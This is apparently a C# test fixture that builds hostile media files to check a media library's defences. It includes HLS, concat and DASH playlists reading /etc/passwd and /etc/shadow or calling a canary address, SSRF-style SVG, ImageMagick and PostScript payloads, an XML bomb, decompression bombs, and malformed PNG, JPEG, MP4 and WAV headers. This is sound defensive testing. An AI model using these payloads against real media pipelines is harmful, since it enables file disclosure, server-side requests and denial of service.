using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Kinora.Media.Pictures;

namespace Kinora.Proofs.Media;

/// <summary>Files that were made to do harm: other formats under false names, bombs, impossible headers.</summary>
internal static class CraftedFiles
{
    /// <summary>All of them.</summary>
    /// <param name="seeds">Sound files by name.</param>
    /// <param name="canary">Address that must never be called.</param>
    public static IEnumerable<HostileFile> All(IReadOnlyDictionary<string, byte[]> seeds, string canary)
    {
        foreach (var (name, text) in Scripts(canary))
        {
            byte[] script = Encoding.UTF8.GetBytes(text);
            foreach (var kind in Enum.GetValues<HostileKind>())
            {
                yield return new HostileFile(name, kind, script);
                yield return new HostileFile($"{name} behind a signature", kind, [.. Signature(kind), .. script]);
            }
        }

        foreach (var file in Pictures(seeds)) yield return file;
        foreach (var file in Films(seeds, canary)) yield return file;
        foreach (var file in Sounds(seeds)) yield return file;
    }

    private static IEnumerable<(string Name, string Text)> Scripts(string canary) =>
    [
        ("HLS playlist of a local file", "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"),
        ("HLS playlist of an address", $"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{canary}/x.ts\n#EXT-X-ENDLIST\n"),
        ("HLS playlist with a key", $"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{canary}/k\"\n#EXTINF:1,\nconcat:/etc/passwd|{canary}\n"),
        ("concat script", "ffconcat version 1.0\nfile '/etc/passwd'\nfile 'subfile,,start,0,end,100,,:/etc/shadow'\n"),
        ("DASH manifest", $"<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\"><Period><BaseURL>{canary}/</BaseURL></Period></MPD>"),
        ("SDP", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n"),
        ("SVG", $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{canary}/i.png\"/></svg>"),
        ("XML bomb", "<!DOCTYPE a [<!ENTITY b \"bbbbbbbbbb\"><!ENTITY c \"&b;&b;&b;&b;\">]><a>&c;</a>"),
        ("ASS subtitles", "[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00.00,0:00:05.00,Default,,0,0,0,,{\\p1}m 0 0 l 99999 99999{\\p0}\n"),
        ("SRT subtitles", "1\n00:00:00,000 --> 99:59:59,000\n<font face=\"/etc/passwd\">x</font>\n"),
        ("ImageMagick script", $"push graphic-context\nfill 'url({canary}/x)'\npop graphic-context\n"),
        ("PostScript", "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file 1000 string readline\n"),
        ("shell script", "#!/bin/sh\ntouch /tmp/kinora-was-here\n"),
        ("nothing", ""),
        ("one byte", "x"),
        ("Matroska", "\x1a\x45\u00df\u00a3 webm"),
        ("zip", "PK\x03\x04" + new string('\0', 200)),
    ];

    private static byte[] Signature(HostileKind kind) => kind switch
    {
        HostileKind.Picture => [0x89, .. "PNG\r\n\x1a\n"u8],
        HostileKind.Film => [0, 0, 0, 20, .. "ftypisom"u8, 0, 0, 2, 0, .. "isom"u8],
        _ => [.. "ID3\x03\0\0\0\0\0\0"u8],
    };

    private static IEnumerable<HostileFile> Pictures(IReadOnlyDictionary<string, byte[]> seeds)
    {
        foreach (var (width, height) in new[] { (16_384, 16_384), (65_536, 65_536), (7_700, 7_700), (int.MaxValue, 1), (0, 0), (60_000, 400), (1, 65_535) })
        {
            yield return new($"PNG that says {width}x{height} and holds nothing", HostileKind.Picture, Png(width, height, []));
            yield return new($"PNG that says {width}x{height} and holds a few rows", HostileKind.Picture, Png(width, height, Zlib(new byte[100_000])));
            if (width is > 0 and < 65_536 && height < 65_536) yield return new($"JPEG that says {width}x{height}", HostileKind.Picture, Jpeg(seeds["yuv420.jpg"], width, height));
        }

        yield return new("PNG bomb: 7,700 x 7,700 of nothing, whole", HostileKind.Picture, Png(7_700, 7_700, Zlib(7_700L * ((7_700 * 4) + 1))));
        yield return new("PNG bomb: too much data behind a small picture", HostileKind.Picture, Png(400, 400, Zlib(300_000_000)));
        yield return new("PNG with a text bomb", HostileKind.Picture, Png(400, 400, Zlib(400L * 1601), ("zTXt", [.. "a\0\0"u8, .. Zlib(200_000_000)])));
        yield return new("PNG with a profile bomb", HostileKind.Picture, Png(400, 400, Zlib(400L * 1601), ("iCCP", [.. "a\0\0"u8, .. Zlib(200_000_000)])));
        byte[] loop = Png(400, 400, Zlib(400L * 1601));
        BinaryPrimitives.WriteUInt32BigEndian(loop.AsSpan(33), uint.MaxValue);
        yield return new("PNG whose chunk has no end", HostileKind.Picture, loop);
        yield return new("JPEG of markers without end", HostileKind.Picture, [0xFF, 0xD8, .. Enumerable.Repeat<byte>(0xFF, 3_000_000)]);
        yield return new("JPEG of comments without end", HostileKind.Picture, [0xFF, 0xD8, .. Enumerable.Repeat<byte[]>([0xFF, 0xFE, 0, 2], 700_000).SelectMany(static b => b)]);
        yield return new("JPEG with 12 bits", HostileKind.Picture, Patched(seeds["yuv420.jpg"], [0xFF, 0xC0], 4, 12));
        yield return new("JPEG, arithmetic coding", HostileKind.Picture, Patched(seeds["yuv420.jpg"], [0xFF, 0xC0], 1, 0xC9));
        yield return new("JPEG with a thumbnail of itself", HostileKind.Picture, [0xFF, 0xD8, 0xFF, 0xE1, 0xFF, 0xFF, .. "Exif\0\0II*\0"u8, 8, 0, 0, 0, .. new byte[65_519], .. seeds["yuv420.jpg"][2..]]);
        yield return new("JPEG of a thousand scans", HostileKind.Picture, Scans(seeds["yuv420.jpg"], 1000));
    }

    private static IEnumerable<HostileFile> Films(IReadOnlyDictionary<string, byte[]> seeds, string canary)
    {
        byte[] film = seeds["faststart.mp4"];
        foreach (var (what, box, at, value) in new (string, string, int, uint)[]
        {
            ("a time scale of 0", "mdhd", 16, 0), ("a time scale of 1", "mdhd", 16, 1), ("an absurd frame rate", "mdhd", 16, uint.MaxValue), ("a length of years", "mdhd", 20, uint.MaxValue - 1),
            ("a length of nothing", "mdhd", 20, 0), ("a movie of years", "mvhd", 20, uint.MaxValue - 1), ("four billion samples", "stsz", 12, uint.MaxValue),
            ("samples of four gigabytes", "stsz", 8, uint.MaxValue), ("four billion chunks", "stco", 8, uint.MaxValue), ("chunks far away", "stco", 12, uint.MaxValue),
            ("chunks in the header", "stco", 12, 0), ("four billion runs of frames", "stts", 8, uint.MaxValue), ("runs without end", "stts", 12, uint.MaxValue),
            ("frames that take no time", "stts", 16, 0), ("frames that take hours", "stts", 16, 0x7FFF_FFFF), ("16,384 x 16,384", "avc1", 28, 0x4000_4000), ("0 x 0", "avc1", 28, 0),
            ("65,535 x 512", "avc1", 28, 0xFFFF_0200), ("another codec", "avc1", 0, 0x48657672), ("a raw codec", "avc1", 0, 0x72617720),
        })
        {
            yield return new($"MP4 with {what}", HostileKind.Film, Patched(film, Encoding.ASCII.GetBytes(box), at, value));
        }

        yield return new("MP4 of nested boxes", HostileKind.Film, [.. Signature(HostileKind.Film), .. Nested(20_000)]);
        yield return new("MP4 of a hundred thousand tracks", HostileKind.Film, [.. Signature(HostileKind.Film), .. Box("moov", Enumerable.Repeat(Box("trak", []), 100_000).SelectMany(static b => b).ToArray())]);
        yield return new("MP4 of empty boxes", HostileKind.Film, [.. Signature(HostileKind.Film), .. Enumerable.Repeat(Box("free", []), 500_000).SelectMany(static b => b)]);
        yield return new("MP4 whose box is larger than the world", HostileKind.Film, [.. Signature(HostileKind.Film), 0, 0, 0, 1, .. "moov"u8, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
        yield return new("MP4 that refers to a local file", HostileKind.Film, Referring(film, "file:///etc/passwd"));
        yield return new("MP4 that refers to an address", HostileKind.Film, Referring(film, canary + "/x"));
        yield return new("QuickTime reference movie", HostileKind.Film, Box("moov", Box("rmra", Box("rmda", Box("rdrf", [0, 0, 0, 0, .. "url "u8, 0, 0, 0, 40, .. Encoding.ASCII.GetBytes(canary.PadRight(40, '\0'))])))));
        yield return new("MP4 followed by a playlist", HostileKind.Film, [.. film, .. Encoding.ASCII.GetBytes($"\n#EXTM3U\n{canary}\n")]);
        yield return new("a picture as a film", HostileKind.Film, seeds["rgb.png"]);
        yield return new("a film as a picture", HostileKind.Picture, film);
        yield return new("a sound as a film", HostileKind.Film, seeds["aac.m4a"]);
        yield return new("a film as a sound", HostileKind.Sound, seeds["faststart.mp4"]);
    }

    private static IEnumerable<HostileFile> Sounds(IReadOnlyDictionary<string, byte[]> seeds)
    {
        byte[] wav = seeds["pcm.wav"];
        foreach (var (what, at, value) in new (string, int, uint)[]
        {
            ("no channels", 22, 0x5622_0000), ("65,535 channels", 22, 0x5622_FFFF), ("a rate of 0", 24, 0), ("a rate of four billion", 24, uint.MaxValue), ("blocks of 0", 32, 0x0010_0000),
            ("ten hours of nothing", 28, 1), ("data of four gigabytes", 74, uint.MaxValue), ("another codec", 20, 0x0001_0055), ("a codec that is none", 20, 0x0001_FFFE),
        })
        {
            byte[] copy = [.. wav];
            BinaryPrimitives.WriteUInt32LittleEndian(copy.AsSpan(at), value);
            yield return new($"WAV with {what}", HostileKind.Sound, copy);
        }

        byte[] m4a = seeds["aac.m4a"];
        yield return new("M4A of ten hours", HostileKind.Sound, Patched(m4a, "mdhd"u8.ToArray(), 20, 36_000u * 22_050));
        yield return new("M4A of a silent frame ten hours long", HostileKind.Sound, Patched(m4a, "stts"u8.ToArray(), 16, 36_000u * 22_050));
        yield return new("ten hours of 8 bits a second", HostileKind.Sound, Hours(10));
        yield return new("MP3 tag of 256 MB", HostileKind.Sound, [.. "ID3\x04\0\0\x7F\x7F\x7F\x7F"u8, .. new byte[1000]]);
        yield return new("AAC frames of no length", HostileKind.Sound, Enumerable.Repeat<byte[]>([0xFF, 0xF1, 0x50, 0x80, 0x00, 0x1F, 0xFC], 300_000).SelectMany(static b => b).ToArray());
        yield return new("AAC frames without end", HostileKind.Sound, Enumerable.Repeat<byte[]>([0xFF, 0xF1, 0x50, 0x80, 0x00, 0xFF, 0xFC], 600_000).SelectMany(static b => b).ToArray());
    }

    /// <summary>A WAV file of one sample a second: ten hours in 36,000 bytes.</summary>
    private static byte[] Hours(int hours)
    {
        byte[] data = new byte[hours * 3600];
        var file = new MemoryStream();
        using var writer = new BinaryWriter(file);
        writer.Write("RIFF"u8);
        writer.Write(36 + data.Length);
        writer.Write("WAVEfmt "u8);
        writer.Write(16);
        writer.Write((short)1);
        writer.Write((short)1);
        writer.Write(1);
        writer.Write(1);
        writer.Write((short)1);
        writer.Write((short)8);
        writer.Write("data"u8);
        writer.Write(data.Length);
        writer.Write(data);
        return file.ToArray();
    }

    private static byte[] Png(int width, int height, byte[] data, params (string Type, byte[] Body)[] before)
    {
        var file = new MemoryStream();
        file.Write([0x89, .. "PNG\r\n\x1a\n"u8]);
        byte[] header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        (header[8], header[9]) = (8, 6);
        foreach (var (type, body) in (IEnumerable<(string, byte[])>)[("IHDR", header), .. before, ("IDAT", data), ("IEND", [])])
        {
            byte[] chunk = [.. Encoding.ASCII.GetBytes(type), .. body];
            file.Write(Number((uint)body.Length));
            file.Write(chunk);
            file.Write(Number(Crc32.Of(chunk, [])));
        }

        return file.ToArray();
    }

    private static byte[] Zlib(byte[] content)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true)) zlib.Write(content);
        return packed.ToArray();
    }

    /// <summary>Zeros.</summary>
    private static byte[] Zlib(long length)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            byte[] block = new byte[1 << 16];
            for (; length > 0; length -= block.Length) zlib.Write(block, 0, (int)Math.Min(length, block.Length));
        }

        return packed.ToArray();
    }

    private static byte[] Jpeg(byte[] seed, int width, int height)
    {
        byte[] copy = [.. seed];
        int at = copy.AsSpan().IndexOf([(byte)0xFF, (byte)0xC0]);
        BinaryPrimitives.WriteUInt16BigEndian(copy.AsSpan(at + 5), (ushort)height);
        BinaryPrimitives.WriteUInt16BigEndian(copy.AsSpan(at + 7), (ushort)width);
        return copy;
    }

    /// <summary>The same scan over and over, as if the picture were refined without end.</summary>
    private static byte[] Scans(byte[] seed, int count)
    {
        int scan = seed.AsSpan().LastIndexOf([(byte)0xFF, (byte)0xDA]);
        byte[] head = seed[..scan], body = seed[scan..Math.Min(seed.Length - 2, scan + 2000)];
        head[head.AsSpan().IndexOf([(byte)0xFF, (byte)0xC0]) + 1] = 0xC2;
        return [.. head, .. Enumerable.Repeat(body, count).SelectMany(static b => b), 0xFF, 0xD9];
    }

    private static byte[] Patched(byte[] seed, byte[] mark, int offset, byte value)
    {
        byte[] copy = [.. seed];
        copy[copy.AsSpan().IndexOf(mark) + offset] = value;
        return copy;
    }

    private static byte[] Patched(byte[] seed, byte[] mark, int offset, uint value)
    {
        byte[] copy = [.. seed];
        int at = copy.AsSpan().IndexOf(mark);
        if (at < 0) throw new InvalidOperationException($"The seed has no {Encoding.ASCII.GetString(mark)}.");
        BinaryPrimitives.WriteUInt32BigEndian(copy.AsSpan(at + offset), value);
        return copy;
    }

    /// <summary>The data reference is not "in this file" any more; the box keeps its size.</summary>
    private static byte[] Referring(byte[] seed, string address)
    {
        byte[] copy = [.. seed];
        int at = copy.AsSpan().IndexOf("url \0\0\0\u0001"u8);
        copy[at + 7] = 0;
        return [.. copy, .. Box("free", Encoding.ASCII.GetBytes(address))];
    }

    private static byte[] Box(string type, byte[] body) => [.. Number((uint)body.Length + 8), .. Encoding.ASCII.GetBytes(type), .. body];

    private static byte[] Nested(int depth)
    {
        byte[] boxes = new byte[depth * 8];
        for (int i = 0; i < depth; i++)
        {
            BinaryPrimitives.WriteInt32BigEndian(boxes.AsSpan(i * 8), (depth - i) * 8);
            (i == 0 ? "moov"u8 : "trak"u8).CopyTo(boxes.AsSpan((i * 8) + 4));
        }

        return boxes;
    }

    private static byte[] Number(uint value)
    {
        byte[] bytes = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(bytes, value);
        return bytes;
    }
}

/// <summary>A file and as what it is handed in.</summary>
internal sealed record HostileFile(string Name, HostileKind Kind, byte[] Content);
